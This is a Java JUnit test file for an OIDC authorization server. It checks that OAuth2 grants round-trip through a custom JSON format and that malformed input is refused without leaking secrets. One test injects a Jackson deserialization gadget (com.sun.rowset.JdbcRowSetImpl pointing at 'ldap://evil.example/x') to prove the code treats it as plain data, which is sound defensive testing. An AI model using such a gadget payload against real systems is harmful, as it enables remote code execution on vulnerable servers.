package vn.dangnhap.oidc.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.net.URL;
import java.security.Principal;
import java.time.Instant;
import java.util.Date;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.springframework.security.authentication.TestingAuthenticationToken;
import org.springframework.security.core.Authentication;
import org.springframework.security.core.authority.FactorGrantedAuthority;
import org.springframework.security.oauth2.core.OAuth2AccessToken;
import org.springframework.security.oauth2.core.endpoint.OAuth2AuthorizationRequest;
import org.springframework.security.oauth2.core.oidc.OidcIdToken;
import org.springframework.security.oauth2.server.authorization.OAuth2Authorization;
import org.springframework.security.oauth2.server.authorization.OAuth2AuthorizationCode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;
import vn.dangnhap.login.SignedInCitizen;
import vn.dangnhap.login.SignedInOfficial;
import vn.dangnhap.testsupport.SampleGrants;

/** A grant written as JSON comes back as the authorization server made it — or not at all. */
class GrantJsonTest {

    private static final JsonMapper JSON = JsonMapper.builder().build();

    @Test
    void authorizationCodeGrantWithPkceAndIdTokenComesBackAsIssued() throws Exception {
        OAuth2Authorization issued = SampleGrants.authorizationCodeWithIdToken();

        OAuth2Authorization read = GrantJson.read(GrantJson.write(issued));

        assertThat(read).usingRecursiveComparison().isEqualTo(issued);
        OAuth2AuthorizationRequest request = read.getAttribute(OAuth2AuthorizationRequest.class.getName());
        assertThat(request.getAdditionalParameters()).containsEntry("code_challenge_method", "S256")
                .containsKey("code_challenge").containsKey("nonce");
        assertThat((String[]) request.getAdditionalParameters().get("ui_locales")).containsExactly("vi", "en");
        assertThat(read.getToken(OAuth2AuthorizationCode.class).isInvalidated()).as("the code was used").isTrue();
        // the server casts auth_time to Date when it refreshes the ID token, and reads iss as a URL
        OidcIdToken idToken = read.getToken(OidcIdToken.class).getToken();
        assertThat(idToken.getClaims().get("auth_time")).isInstanceOf(Date.class);
        assertThat(idToken.getClaims().get("iss")).isInstanceOf(URL.class);
        assertThat(read.getToken(OidcIdToken.class).getClaims()).isEqualTo(idToken.getClaims());
        assertThat(read.getAccessToken().getClaims().get("scope")).isInstanceOf(Set.class);
        assertThat(read.getAccessToken().getClaims().get("nbf")).isInstanceOf(Instant.class);
        assertThat(read.getAccessToken().getClaims().get("cnf")).isEqualTo(Map.of("jkt", "0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I"));
        Authentication person = read.getAttribute(Principal.class.getName());
        assertThat(GrantEntry.isPersonal(person)).isTrue();
        assertThat(person.getPrincipal()).isEqualTo(new SignedInOfficial(SampleGrants.OFFICIAL_ID, "nguyenvanan@demo.gov.vn",
                "Nguyễn Văn An"));
        assertThat(person.getAuthorities()).filteredOn(FactorGrantedAuthority.class::isInstance)
                .singleElement().extracting(a -> ((FactorGrantedAuthority) a).getIssuedAt())
                .isEqualTo(SampleGrants.NOW.minusSeconds(90));
    }

    @Test
    void refreshedGrantKeepsItsRotatedTokensAndTheUsedCode() throws Exception {
        OAuth2Authorization refreshed = SampleGrants.refreshed(SampleGrants.authorizationCodeWithIdToken());

        OAuth2Authorization read = GrantJson.read(GrantJson.write(refreshed));

        assertThat(read).usingRecursiveComparison().isEqualTo(refreshed);
        assertThat(read.getRefreshToken().getToken().getTokenValue()).isEqualTo(refreshed.getRefreshToken().getToken().getTokenValue());
        assertThat(read.getRefreshToken().isActive()).isEqualTo(refreshed.getRefreshToken().isActive());
    }

    @Test
    void clientCredentialsGrantHasNoPerson() throws Exception {
        OAuth2Authorization issued = SampleGrants.clientCredentials();

        OAuth2Authorization read = GrantJson.read(GrantJson.write(issued));

        assertThat(read).usingRecursiveComparison().isEqualTo(issued);
        assertThat(read.<Object>getAttribute(Principal.class.getName())).isNull();
        assertThat(read.getAccessToken().getToken().getTokenType()).isEqualTo(OAuth2AccessToken.TokenType.BEARER);
    }

    @Test
    void grantWaitingForConsentKeepsItsStateRequestAndCitizen() throws Exception {
        OAuth2Authorization waiting = SampleGrants.waitingForConsent();

        OAuth2Authorization read = GrantJson.read(GrantJson.write(waiting));

        assertThat(read).usingRecursiveComparison().isEqualTo(waiting);
        assertThat(read.<String>getAttribute("state")).isEqualTo(waiting.getAttribute("state"));
        assertThat(read.<Authentication>getAttribute(Principal.class.getName()).getPrincipal())
                .isEqualTo(new SignedInCitizen(SampleGrants.CITIZEN_ID, "0010******45", "Trần Thị Bình"));
        assertThat(read.getAccessToken()).isNull();
    }

    @Test
    void theDocumentNamesNoJavaClass() {
        String json = GrantJson.write(SampleGrants.authorizationCodeWithIdToken());

        assertThat(json).doesNotContain("java.", "org.springframework", "vn.dangnhap", "@class", "SignedIn")
                .contains("\"kind\":\"official\"", "\"format\":1");
    }

    @Test
    void classNamesInADocumentAreDataNeverTypes() throws Exception {
        ObjectNode document = (ObjectNode) JSON.readTree(GrantJson.write(SampleGrants.authorizationCodeWithIdToken()));
        document.put("@class", "java.util.Collections$UnmodifiableMap");
        ((ObjectNode) document.get("id_token").get("claims")).putObject("gadget")
                .put("@class", "com.sun.rowset.JdbcRowSetImpl").put("dataSourceName", "ldap://evil.example/x");

        OAuth2Authorization read = GrantJson.read(document.toString());

        assertThat(read.getToken(OidcIdToken.class).getToken().getClaims().get("gadget"))
                .isEqualTo(Map.of("@class", "com.sun.rowset.JdbcRowSetImpl", "dataSourceName", "ldap://evil.example/x"));

        ((ObjectNode) document.get("person")).put("kind", "com.evil.Gadget");
        assertThatThrownBy(() -> GrantJson.read(document.toString()))
                .isInstanceOf(GrantJson.UnreadableGrant.class).hasMessage("person is of an unknown kind");
    }

    @Test
    void aDocumentThatIsNotAGrantOfThisFormatIsRefusedWithoutBeingQuoted() throws Exception {
        String valid = GrantJson.write(SampleGrants.authorizationCodeWithIdToken());
        ObjectNode laterFormat = (ObjectNode) JSON.readTree(valid);
        laterFormat.put("format", 2);
        ObjectNode unknownClaimType = (ObjectNode) JSON.readTree(valid);
        ((ObjectNode) unknownClaimType.get("id_token").get("claim_types")).put("auth_time", "java.util.Date");
        ObjectNode badTime = (ObjectNode) JSON.readTree(valid);
        ((ObjectNode) badTime.get("access_token")).put("expires_at", "secret-token-value");

        for (String unreadable : new String[] {"", "secret-token-value", "{\"format\":1", "[1,2]", "null",
                // how Spring's own JDBC store writes attributes: type names in the data
                "{\"@class\":\"java.util.Collections$UnmodifiableMap\",\"java.security.Principal\":{\"@class\":"
                        + "\"org.springframework.security.authentication.UsernamePasswordAuthenticationToken\"}}",
                laterFormat.toString(), unknownClaimType.toString(), badTime.toString(),
                "[".repeat(100) + "]".repeat(100)}) {
            assertThatThrownBy(() -> GrantJson.read(unreadable)).as(unreadable)
                    .isInstanceOf(GrantJson.UnreadableGrant.class)
                    .satisfies(e -> assertThat(e.getMessage()).doesNotContain("secret-token-value"));
        }
    }

    @Test
    void refusesToStoreWhatItCouldNotGiveBack() {
        OAuth2Authorization issued = SampleGrants.authorizationCodeWithIdToken();

        assertThatThrownBy(() -> GrantJson.write(OAuth2Authorization.from(issued).attribute("thread", new Object()).build()))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("attribute.thread holds a java.lang.Object");
        assertThatThrownBy(() -> GrantJson.write(OAuth2Authorization.from(issued)
                .attribute(Principal.class.getName(), new TestingAuthenticationToken("someone", null)).build()))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("not a signed-in person");
    }
}
